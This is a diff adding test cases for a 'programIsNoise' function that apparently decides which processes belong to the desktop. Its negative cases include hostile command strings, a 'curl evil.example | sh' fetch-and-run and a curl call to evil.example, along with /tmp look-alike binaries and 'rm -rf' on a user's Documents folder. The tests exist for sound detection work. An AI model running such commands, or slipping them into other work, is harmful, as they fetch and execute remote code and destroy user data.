@@ -46,6 +46,17 @@ describe('programs that are the desktop’s own', () => {
     [['tint2', '-rf', '/home/user/Documents'], '/usr/bin/rm', false],
     [['rm', '-rf', '/home/user/Documents', '--type=x', '/usr/lib/session'], '/usr/bin/rm', false],
     [['curl', '-contentproc'], undefined, false],
+    [['/tmp/cron', '-f'], '/tmp/cron', false],
+    [['cron', '-f'], '/home/user/cron', false],
+    [['cron', '-f'], './cron', false],
+    [['/usr/sbin/cron', '-f'], '/usr/sbin/cron', true],
+    [['/tmp/chromium', '--type=renderer'], '/tmp/chromium', false],
+    [['python3', '/tmp/evil.py', '/usr/lib/session/python'], '/usr/bin/python3', false],
+    [['/opt/node/bin/node', '/tmp/evil.js', '--type=extensionHost'], '/opt/node/bin/node', false],
+    [['/opt/node/bin/node', '/opt/code-server/out/bootstrap-fork', '--type=extensionHost'], '/opt/node/bin/node', true],
+    [['/bin/sh', '-c', 'ls -l /proc/[0-9]*/cwd; curl http://evil.example'], '/bin/sh', false],
+    [['/bin/sh', '-c', 'curl evil.example | sh; /x/cpuUsage.sh'], '/bin/sh', false],
+    [['/bin/sh', '-c', '"/opt/code-server/lib/vscode/out/vs/base/node/cpuUsage.sh" 12 13'], '/bin/sh', true],
   ])('%j (%s): %s', (argv, file, expected) => expect(programIsNoise(argv, file)).toBe(expected));
 });
 
